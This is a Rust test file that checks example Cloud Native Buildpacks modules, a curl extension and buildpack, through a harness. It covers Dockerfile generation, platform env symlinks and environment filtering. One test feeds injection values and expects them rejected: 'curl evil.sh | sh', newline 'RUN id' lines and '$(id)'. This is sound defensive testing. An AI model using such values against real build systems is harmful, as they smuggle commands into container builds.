//! The example modules run exactly as the lifecycle runs them (positional args, `CNB_*` env,
//! filtered environment, the app as working directory), through the harness.

// Required due to: https://github.com/rust-lang/rust/issues/95513
#![allow(unused_crate_dependencies)]

use cnb_harness::{
    Module, ModuleRun, OddPlatformEntry, Outcome, Process, TargetEnv, assert_contains, fixture_app,
};
use std::path::PathBuf;

fn curl_extension() -> Module {
    Module::package("tests/modules/curl-extension")
}

fn curl_buildpack() -> Module {
    Module::package("tests/modules/curl-buildpack")
}

const CURL_PLAN: &str =
    "[[entries]]\nname = \"curl\"\n[entries.metadata]\nversion = \"8.5.0-2\"\nlaunch = true\n";

#[test]
fn packaged_module_binaries_are_static() {
    for module in [curl_extension(), curl_buildpack()] {
        let executable = module.executable(module.kind.main_executable_name());
        cnb_package::elf::check_static(&executable)
            .unwrap_or_else(|error| panic!("{}: {error}", executable.display()));
        let link = std::fs::read_link(module.dir.join("bin/detect")).unwrap();
        assert_eq!(link, PathBuf::from(executable.file_name().unwrap()));
    }
}

#[test]
fn extension_detect_provides_curl_with_an_alternative() {
    let plan = ModuleRun::new(&curl_extension(), fixture_app("empty-app"))
        .detect()
        .into_plan();
    assert_eq!(plan["provides"][0]["name"].as_str(), Some("curl"));
    let alternative = plan["or"][0]["provides"].as_array().unwrap();
    assert_eq!(alternative.len(), 2);
    assert!(!plan.contains_key("requires"));
}

/// `<platform>/env` as a Kubernetes `ConfigMap` volume (kpack, Tekton) lays it out: the
/// variable is a link to `..data/<name>`, `..data` a link to a directory. Issue 13 item 7: the
/// toolkit skipped the link and the extension used its default without a word.
#[test]
fn extension_generate_follows_platform_env_links() {
    let run = ModuleRun::new(&curl_extension(), fixture_app("empty-app")).buildpack_plan(CURL_PLAN);
    let (mut command, scratch) = run.command("generate");
    let env = scratch.path().join("platform/env");
    std::fs::create_dir(env.join("..2026_11_26")).unwrap();
    std::fs::write(
        env.join("..2026_11_26/BP_CURL_RUN_IMAGE"),
        "localhost/curl-run:8",
    )
    .unwrap();
    std::os::unix::fs::symlink("..2026_11_26", env.join("..data")).unwrap();
    std::os::unix::fs::symlink("..data/BP_CURL_RUN_IMAGE", env.join("BP_CURL_RUN_IMAGE")).unwrap();
    Process::from(command.output().unwrap()).assert_success();
    assert_eq!(
        std::fs::read_to_string(scratch.path().join("output/run.Dockerfile")).unwrap(),
        "FROM localhost/curl-run:8\n"
    );
}

#[test]
fn extension_generate_writes_the_dockerfiles_and_extend_config() {
    let outcome = ModuleRun::new(&curl_extension(), fixture_app("empty-app"))
        .buildpack_plan(CURL_PLAN)
        .platform_env("BP_CURL_RUN_IMAGE", "localhost/curl-run:8")
        .generate();
    outcome.assert_success();
    assert_eq!(
        outcome.files,
        ["build.Dockerfile", "extend-config.toml", "run.Dockerfile"]
    );
    let build = outcome.build_dockerfile.unwrap();
    assert!(build.starts_with("ARG base_image\nFROM ${base_image}\n"));
    assert_contains!(build, "curl=8.5.0-2");
    assert!(build.ends_with("USER ${user_id}:${group_id}\n"));
    assert_eq!(
        outcome.run_dockerfile.as_deref(),
        Some("FROM localhost/curl-run:8\n")
    );
    assert_eq!(
        outcome.extend_config.unwrap()["run"]["args"][0]["value"].as_str(),
        Some("noninteractive")
    );
    assert!(
        outcome
            .process
            .stdout
            .starts_with("Example curl extension 0.1.0\n  Installing curl 8.5.0-2"),
        "{}",
        outcome.process.stdout
    );
}

#[test]
fn extension_generate_rejects_hostile_values_and_writes_nothing() {
    for (plan_version, run_image, expected) in [
        (
            "8.5.0; curl evil.sh | sh",
            "",
            "not a Debian package version",
        ),
        ("8.5.0\\nRUN id", "", "not a Debian package version"),
        (
            "8.5.0",
            "x\nRUN id",
            "BP_CURL_RUN_IMAGE: \"x\\nRUN id\" is not an image reference",
        ),
        ("8.5.0", "ubuntu $(id)", "BP_CURL_RUN_IMAGE"),
    ] {
        let plan = format!(
            "[[entries]]\nname = \"curl\"\n[entries.metadata]\nversion = \"{plan_version}\"\n"
        );
        let mut run =
            ModuleRun::new(&curl_extension(), fixture_app("empty-app")).buildpack_plan(&plan);
        if !run_image.is_empty() {
            run = run.platform_env("BP_CURL_RUN_IMAGE", run_image);
        }
        let outcome = run.generate();
        outcome.assert_error("", &[expected]);
    }
}

#[test]
fn extension_generate_errors_name_a_malformed_buildpack_plan() {
    let outcome = ModuleRun::new(&curl_extension(), fixture_app("empty-app"))
        .buildpack_plan("[[entries]]\nname = 1\n")
        .generate();
    outcome.assert_error("", &["bp-plan.toml"]);
}

#[test]
fn the_environment_is_filtered_as_the_lifecycle_filters_it() {
    // CNB_STACK_ID is allow-listed; anything else from the lifecycle's environment is not. A
    // platform env file reaches the process (the extension does not set clear-env).
    let run = ModuleRun::new(&curl_extension(), fixture_app("empty-app"))
        .lifecycle_env("CNB_STACK_ID", "io.buildpacks.stacks.ubi8")
        .lifecycle_env("SECRET_FROM_THE_BUILD_HOST", "x")
        .platform_env("BP_CURL_RUN_IMAGE", "localhost/a:1")
        .target(TargetEnv::linux_amd64("rhel", "8.10"))
        .buildpack_plan(CURL_PLAN);
    run.generate().assert_success();
    let env = run.environment_for_test();
    assert_eq!(
        env.get("CNB_STACK_ID").map(String::as_str),
        Some("io.buildpacks.stacks.ubi8")
    );
    assert!(!env.contains_key("SECRET_FROM_THE_BUILD_HOST"));
    assert_eq!(
        env.get("BP_CURL_RUN_IMAGE").map(String::as_str),
        Some("localhost/a:1")
    );
    assert_eq!(
        env.get("CNB_TARGET_DISTRO_NAME").map(String::as_str),
        Some("rhel")
    );
}

/// The lifecycle reads every `<platform>/env` file of a module without `clear-env` to pass it on
/// as a variable: a FIFO or a dangling link there cannot be run past, and the harness says so.
#[test]
#[should_panic(expected = "does not set clear-env")]
fn odd_platform_entries_need_clear_env() {
    let run = ModuleRun::new(&curl_extension(), fixture_app("empty-app"))
        .odd_platform_entry("PIPE", OddPlatformEntry::Fifo);
    let _ = run.environment_for_test();
}

#[test]
fn buildpack_detect_requires_the_apps_curl_version() {
    let plan = ModuleRun::new(&curl_buildpack(), fixture_app("curl-app"))
        .detect()
        .into_plan();
    assert_eq!(plan["requires"][0]["name"].as_str(), Some("curl"));
    assert_eq!(
        plan["requires"][0]["metadata"]["version"].as_str(),
        Some("7.88.1-10+deb12u5")
    );
    assert!(!plan.contains_key("provides"));
}

#[test]
fn buildpack_build_sets_the_launch_process() {
    let outcome = ModuleRun::new(&curl_buildpack(), fixture_app("curl-app"))
        .buildpack_plan(CURL_PLAN)
        .build();
    outcome.assert_success();
    let launch = outcome.launch.expect("launch.toml");
    assert_eq!(
        launch["processes"][0]["type"].as_str(),
        Some("curl-version")
    );
    assert_eq!(launch["processes"][0]["command"][0].as_str(), Some("curl"));
    assert_contains!(outcome.process.stdout, "  Found curl at ");
}

#[test]
fn buildpack_build_fails_clearly_without_curl() {
    let outcome = ModuleRun::new(&curl_buildpack(), fixture_app("curl-app"))
        .buildpack_plan(CURL_PLAN)
        .lifecycle_env("PATH", "/nonexistent")
        .build();
    outcome
        .process
        .assert_module_error("curl is not installed in the build image", &[]);
    assert!(outcome.launch.is_none());
}
